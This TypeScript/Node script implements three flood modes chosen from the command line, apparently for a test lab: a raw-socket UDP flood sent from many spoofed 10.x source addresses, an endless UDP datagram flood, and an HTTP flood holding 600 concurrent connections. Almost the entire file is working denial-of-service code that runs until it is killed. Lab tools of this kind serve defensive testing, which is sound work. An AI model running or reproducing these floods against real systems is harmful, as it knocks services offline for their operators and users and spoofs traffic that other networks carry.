import { createSocket } from "node:dgram";
import { once } from "node:events";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { openRawSocket } from "@turnout/lab";

/** Requests that are open at a time. */
const CONCURRENT = 600;
/** Datagrams sent before others may run. */
const AT_ONCE = 500;
const UDP_PROTOCOL = 17;

/** What clients send who mean harm: `MODE ADDRESS PORT [COUNT]`, in the place in which this is started, until it is ended. */
const FLOODS: Readonly<Record<string, (address: string, port: number, count: number) => Promise<void>>> = {
  /** One datagram from each of `count` addresses: they have to be local in this place. */
  async clients(address, port, count) {
    const socket = await openRawSocket("IPv4", UDP_PROTOCOL);
    const datagram = Buffer.from([0x9c, 0x40, port >> 8, port & 255, 0, 9, 0, 0, 0]);
    for (let at = 0; at < count; at++) {
      socket.bind(`10.${128 + (at >> 16)}.${(at >> 8) & 255}.${at & 255}`);
      socket.send(datagram, address);
      if (at % 100 === 0) await sleep(5);
    }
    socket.close();
  },
  /** Datagrams of one flow. */
  async datagrams(address, port) {
    const socket = createSocket("udp4");
    socket.connect(port, address);
    await once(socket, "connect");
    socket.on("error", () => {
      // Refused: it goes on.
    });
    for (;;) {
      for (let at = 0; at < AT_ONCE; at++) socket.send("x");
      await sleep(5);
    }
  },
  /** Requests over new connections, so many at a time. */
  async http(address, port) {
    const ask = async (): Promise<void> => {
      for (;;) {
        await new Promise<void>((resolve) => {
          const socket = connect({ host: address, port, timeout: 5_000 }, () => socket.write("GET / HTTP/1.0\r\n\r\n"));
          socket.on("timeout", () => socket.destroy());
          socket.on("error", () => socket.destroy());
          socket.on("close", resolve);
          socket.resume();
        });
        await sleep(1);
      }
    };
    await Promise.all(Array.from({ length: CONCURRENT }, ask));
  },
};

const [mode = "", address = "", port = "0", count = "0"] = process.argv.slice(2);
await FLOODS[mode]?.(address, Number(port), Number(count));
